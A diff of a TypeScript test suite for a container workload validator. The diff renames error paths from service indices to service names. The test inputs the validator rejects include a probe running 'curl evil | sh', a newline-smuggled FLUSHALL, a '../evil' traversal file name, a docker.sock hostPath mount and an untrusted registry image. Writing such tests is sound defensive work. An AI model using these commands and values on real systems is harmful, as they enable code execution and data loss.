@@ -45,74 +45,74 @@ describe("the workload model validates", () => {
     });
 
     it("ports out of range, with reserved or duplicate names, twice in the pod", () => {
-        expectProblem(web("ports: [{name: p2p, port: 70000}]"), "services[0].ports[0].port", /65535/);
-        expectProblem(web("ports: [{name: metrics, port: 9100}]"), "services[0].ports[0].name", /platform's/, /name: rpc/);
-        expectProblem(web("ports: [{name: p2p, port: 8080}]"), "services[0].ports[0].port", /TCP 8080 is declared twice/);
-        expectProblem(web("ports: [{name: a-very-long-port-name, port: 9000}]"), "services[0].ports[0].name", /15 characters/);
+        expectProblem(web("ports: [{name: p2p, port: 70000}]"), "services[web].ports[0].port", /65535/);
+        expectProblem(web("ports: [{name: metrics, port: 9100}]"), "services[web].ports[0].name", /platform's/, /name: rpc/);
+        expectProblem(web("ports: [{name: p2p, port: 8080}]"), "services[web].ports[0].port", /TCP 8080 is declared twice/);
+        expectProblem(web("ports: [{name: a-very-long-port-name, port: 9000}]"), "services[web].ports[0].name", /15 characters/);
     });
 
     it("a public port that is not granted, naming the grant to ask for", () => {
-        expectProblem(web("ports: [{name: p2p, port: 30303, protocol: UDP, public: true}]"), "services[0].ports[0].public", /public UDP 30303 is not granted.*udp-30303/, /publicPorts: \[\{port: 30303, protocol: UDP\}\].*platform:projectGrants\.shop/);
+        expectProblem(web("ports: [{name: p2p, port: 30303, protocol: UDP, public: true}]"), "services[web].ports[0].public", /public UDP 30303 is not granted.*udp-30303/, /publicPorts: \[\{port: 30303, protocol: UDP\}\].*platform:projectGrants\.shop/);
         // Granted for TCP only: UDP is another entry point.
-        expectProblem(web("ports: [{name: p2p, port: 30303, protocol: UDP, public: true}]"), "services[0].ports[0].public", /not granted/, undefined, granted({ publicPorts: [{ port: 30303, protocol: "TCP" }] }));
+        expectProblem(web("ports: [{name: p2p, port: 30303, protocol: UDP, public: true}]"), "services[web].ports[0].public", /not granted/, undefined, granted({ publicPorts: [{ port: 30303, protocol: "TCP" }] }));
     });
 
     it("TLS passthrough for a foreign host, on a missing or UDP port, or without being public", () => {
-        expectProblem(web("ports: [{name: https, port: 8443}]", "expose: {public: true, tls: passthrough, port: https, customDomains: [bank.example.com]}"), "services[0].expose.customDomains[0]", /custom domain bank\.example\.com is not granted/, /customDomains/);
-        expectProblem(web("expose: {public: true, tls: passthrough, port: https}"), "services[0].expose.port", /passthrough needs a TCP port of the service named "https"/);
-        expectProblem(web("ports: [{name: quic, port: 8443, protocol: UDP}]", "expose: {public: true, tls: passthrough, port: quic}"), "services[0].expose.port", /TCP port/);
-        expectProblem(web("expose: {tls: passthrough}"), "services[0].expose.tls", /applies to a public service/);
-        expectProblem(web("expose: {port: http}"), "services[0].expose.port", /passthrough/);
+        expectProblem(web("ports: [{name: https, port: 8443}]", "expose: {public: true, tls: passthrough, port: https, customDomains: [bank.example.com]}"), "services[web].expose.customDomains[0]", /custom domain bank\.example\.com is not granted/, /customDomains/);
+        expectProblem(web("expose: {public: true, tls: passthrough, port: https}"), "services[web].expose.port", /passthrough needs a TCP port of the service named "https"/);
+        expectProblem(web("ports: [{name: quic, port: 8443, protocol: UDP}]", "expose: {public: true, tls: passthrough, port: quic}"), "services[web].expose.port", /TCP port/);
+        expectProblem(web("expose: {tls: passthrough}"), "services[web].expose.tls", /applies to a public service/);
+        expectProblem(web("expose: {port: http}"), "services[web].expose.port", /passthrough/);
     });
 
     it("an exec probe that starts a shell or an interpreter, or carries control characters", () => {
-        expectProblem(web("probes: {liveness: {exec: [sh, -c, 'redis-cli ping; curl evil | sh']}}"), "services[0].probes.liveness.exec", /argv arrays, not shell strings: "sh"/, /no sh -c/);
-        expectProblem(web("probes: {readiness: {exec: [/bin/bash, -c, 'pg_isready']}}"), "services[0].probes.readiness.exec", /"\/bin\/bash"/);
-        expectProblem(web("probes: {readiness: {exec: [python3, -c, 'print(1)']}}"), "services[0].probes.readiness.exec", /"python3"/);
-        expectProblem(web('probes: {readiness: {exec: [redis-cli, "ping\\nFLUSHALL"]}}'), "services[0].probes.readiness.exec", /control character/);
+        expectProblem(web("probes: {liveness: {exec: [sh, -c, 'redis-cli ping; curl evil | sh']}}"), "services[web].probes.liveness.exec", /argv arrays, not shell strings: "sh"/, /no sh -c/);
+        expectProblem(web("probes: {readiness: {exec: [/bin/bash, -c, 'pg_isready']}}"), "services[web].probes.readiness.exec", /"\/bin\/bash"/);
+        expectProblem(web("probes: {readiness: {exec: [python3, -c, 'print(1)']}}"), "services[web].probes.readiness.exec", /"python3"/);
+        expectProblem(web('probes: {readiness: {exec: [redis-cli, "ping\\nFLUSHALL"]}}'), "services[web].probes.readiness.exec", /control character/);
         expect(execProbeProblem(["kafka-broker-api-versions", "--bootstrap-server", "localhost:9092"])).toBeUndefined();
         expect(execProbeProblem(["/usr/bin/env", "sh"])).toMatch(/env/);
     });
 
     it("a sidecar or init container asking for privileges, root or a public port", () => {
-        expectProblem(web("sidecars: [{name: exporter, image: ghcr.io/example/exporter:1.0.0, privileged: true}]"), "services[0].sidecars[0].privileged", /runs restricted/, /remove privileged/);
-        expectProblem(web("sidecars: [{name: exporter, image: ghcr.io/example/exporter:1.0.0, securityContext: {capabilities: {add: [NET_ADMIN]}}}]"), "services[0].sidecars[0].securityContext", /cannot be set/);
-        expectProblem(web("initContainers: [{name: setup, image: ghcr.io/example/setup:1.0.0, runAsUser: 0}]"), "services[0].initContainers[0].runAsUser", /1/);
-        expectProblem(web("initContainers: [{name: setup, image: ghcr.io/example/setup:1.0.0, hostPath: /var/run/docker.sock}]"), "services[0].initContainers[0].hostPath", /cannot be set/);
-        expectProblem(web("sidecars: [{name: proxy, image: ghcr.io/example/proxy:1.0.0, ports: [{name: p2p, port: 4000, public: true}]}]"), "services[0].sidecars[0].ports[0].public", /never public/);
-        expectProblem(web("sidecars: [{name: web, image: ghcr.io/example/proxy:1.0.0}]"), "services[0].sidecars[0].name", /used twice/);
-        expectProblem(web("sidecars: [{name: exporter, image: evil.example.com/exporter:1.0.0}]"), "services[0].sidecars[0].image", /registry "evil\.example\.com" is not allowed/);
+        expectProblem(web("sidecars: [{name: exporter, image: ghcr.io/example/exporter:1.0.0, privileged: true}]"), "services[web].sidecars[0].privileged", /runs restricted/, /remove privileged/);
+        expectProblem(web("sidecars: [{name: exporter, image: ghcr.io/example/exporter:1.0.0, securityContext: {capabilities: {add: [NET_ADMIN]}}}]"), "services[web].sidecars[0].securityContext", /cannot be set/);
+        expectProblem(web("initContainers: [{name: setup, image: ghcr.io/example/setup:1.0.0, runAsUser: 0}]"), "services[web].initContainers[0].runAsUser", /1/);
+        expectProblem(web("initContainers: [{name: setup, image: ghcr.io/example/setup:1.0.0, hostPath: /var/run/docker.sock}]"), "services[web].initContainers[0].hostPath", /cannot be set/);
+        expectProblem(web("sidecars: [{name: proxy, image: ghcr.io/example/proxy:1.0.0, ports: [{name: p2p, port: 4000, public: true}]}]"), "services[web].sidecars[0].ports[0].public", /never public/);
+        expectProblem(web("sidecars: [{name: web, image: ghcr.io/example/proxy:1.0.0}]"), "services[web].sidecars[0].name", /used twice/);
+        expectProblem(web("sidecars: [{name: exporter, image: evil.example.com/exporter:1.0.0}]"), "services[web].sidecars[0].image", /registry "evil\.example\.com" is not allowed/);
     });
 
     it("files from undeclared secrets or ConfigMaps, ConfigMaps holding keys, files twice at one path", () => {
-        expectProblem(web("files: [{mountPath: /tls, secret: {tls.crt: TLS_CRT}}]"), "services[0].files[0].secret.tls.crt", /secret TLS_CRT is not set/, /tenantSecrets\.shop\.TLS_CRT/);
-        expectProblem(web("files: [{mountPath: /config, configMap: app}]"), "services[0].files[0].configMap", /ConfigMap "app" is not declared/, /configMaps: \[\{name: app/);
-        expectProblem(web("files: [{mountPath: /config, configMap: app, secret: {a: B}}]"), "services[0].files[0]", /exactly one of secret or configMap/);
-        expectProblem(web("files: [{mountPath: /etc/app, configMap: app}]"), "services[0].files[0].mountPath", /\/etc/);
-        expectProblem(web("files: [{mountPath: /tmp, secret: {a: TOKEN}}]"), "services[0].files[0].mountPath", /mounted twice/, undefined, dev, ["TOKEN"]);
-        expectProblem(web("files: [{mountPath: /k, secret: {../evil: TOKEN}}]"), "services[0].files[0].secret.../evil", /file name/, undefined, dev, ["TOKEN"]);
+        expectProblem(web("files: [{mountPath: /tls, secret: {tls.crt: TLS_CRT}}]"), "services[web].files[0].secret.tls.crt", /secret TLS_CRT is not set/, /tenantSecrets\.shop\.TLS_CRT/);
+        expectProblem(web("files: [{mountPath: /config, configMap: app}]"), "services[web].files[0].configMap", /ConfigMap "app" is not declared/, /configMaps: \[\{name: app/);
+        expectProblem(web("files: [{mountPath: /config, configMap: app, secret: {a: B}}]"), "services[web].files[0]", /exactly one of secret or configMap/);
+        expectProblem(web("files: [{mountPath: /etc/app, configMap: app}]"), "services[web].files[0].mountPath", /\/etc/);
+        expectProblem(web("files: [{mountPath: /tmp, secret: {a: TOKEN}}]"), "services[web].files[0].mountPath", /mounted twice/, undefined, dev, ["TOKEN"]);
+        expectProblem(web("files: [{mountPath: /k, secret: {../evil: TOKEN}}]"), "services[web].files[0].secret.../evil", /file name/, undefined, dev, ["TOKEN"]);
         const key = ["configMaps:", "  - name: app", "    data:", "      key.pem: |", "        -----BEGIN PRIVATE KEY-----", "        abc", "        -----END PRIVATE KEY-----"];
         expectProblem([...web().split("\n"), ...key].join("\n"), "configMaps[0].data.key.pem", /contains a private key/, /tenantSecrets/);
     });
 
     it("credentials of something the project does not have; platform variables set by hand", () => {
-        expectProblem(web("uses: [database]"), "services[0].uses[0]", /no database/, /database: \{engine/);
-        expectProblem(web("uses: [bucket]"), "services[0].uses[0]", /no bucket/);
-        expectProblem([...web("env: {DATABASE_HOST: elsewhere}").split("\n"), "database: {engine: postgresql}"].join("\n"), "services[0].env", /DATABASE_HOST is set by the platform/);
-        expectProblem(web("cluster: {}", "replicas: 3", "env: {POD_INDEX: '7'}"), "services[0].env", /POD_INDEX is set by the platform/);
+        expectProblem(web("uses: [database]"), "services[web].uses[0]", /no database/, /database: \{engine/);
+        expectProblem(web("uses: [bucket]"), "services[web].uses[0]", /no bucket/);
+        expectProblem([...web("env: {DATABASE_HOST: elsewhere}").split("\n"), "database: {engine: postgresql}"].join("\n"), "services[web].env", /DATABASE_HOST is set by the platform/);
+        expectProblem(web("cluster: {}", "replicas: 3", "env: {POD_INDEX: '7'}"), "services[web].env", /POD_INDEX is set by the platform/);
     });
 
     it("clustered services: a quorum of fewer than 3, autoscaled membership", () => {
-        expectProblem(web("cluster: {quorum: true}", "replicas: 2"), "services[0].cluster.quorum", /at least 3 replicas/, /replicas: 3/);
-        expectProblem(web("cluster: {}", "autoscale: {min: 1, max: 3}"), "services[0].autoscale", /fixed membership/);
-        expectProblem(web("cluster: {podManagementPolicy: Random}"), "services[0].cluster.podManagementPolicy", /OrderedReady|Parallel/);
+        expectProblem(web("cluster: {quorum: true}", "replicas: 2"), "services[web].cluster.quorum", /at least 3 replicas/, /replicas: 3/);
+        expectProblem(web("cluster: {}", "autoscale: {min: 1, max: 3}"), "services[web].autoscale", /fixed membership/);
+        expectProblem(web("cluster: {podManagementPolicy: Random}"), "services[web].cluster.podManagementPolicy", /OrderedReady|Parallel/);
     });
 
     it("workers: public without a port, a probe without a port", () => {
         const worker = (...lines: string[]) => doc("services:", "  - name: consumer", "    image: ghcr.io/example/consumer:1.0.0", ...lines.map((l) => `    ${l}`));
-        expectProblem(worker("expose: {public: true}"), "services[0].expose.public", /needs a port/);
-        expectProblem(worker("probes: {readiness: {tcp: true}}"), "services[0].probes.readiness", /exec probe or an explicit probe port/);
-        expectProblem(worker("expose: {customDomains: [shop.example.org]}"), "services[0].expose.customDomains", /only apply to a public service/);
+        expectProblem(worker("expose: {public: true}"), "services[consumer].expose.public", /needs a port/);
+        expectProblem(worker("probes: {readiness: {tcp: true}}"), "services[consumer].probes.readiness", /exec probe or an explicit probe port/);
+        expectProblem(worker("expose: {customDomains: [shop.example.org]}"), "services[consumer].expose.customDomains", /only apply to a public service/);
     });
 
     it("jobs: bad schedules, names taken by services, limits out of bounds", () => {
@@ -127,10 +127,11 @@ describe("the workload model validates", () => {
     });
 
     it("reports every problem at once", () => {
+        // Within a phase: the grant checks run after a file's schema passes (a known gap, see the README).
         const problems = problemsOf(web("ports: [{name: p2p, port: 30303, public: true}]", "uses: [database]", "sidecars: [{name: x, image: ghcr.io/example/x:1.0.0, privileged: true}]"));
-        expect(problems.map((p) => p.path)).toEqual(expect.arrayContaining(["services[0].sidecars[0].privileged"]));
+        expect(problems.map((p) => p.path)).toEqual(expect.arrayContaining(["services[web].sidecars[0].privileged"]));
         const stackLevel = problemsOf(web("ports: [{name: p2p, port: 30303, public: true}]", "uses: [database]"));
-        expect(stackLevel.map((p) => p.path)).toEqual(expect.arrayContaining(["services[0].uses[0]"]));
+        expect(stackLevel.map((p) => p.path)).toEqual(expect.arrayContaining(["services[web].uses[0]"]));
     });
 });
 
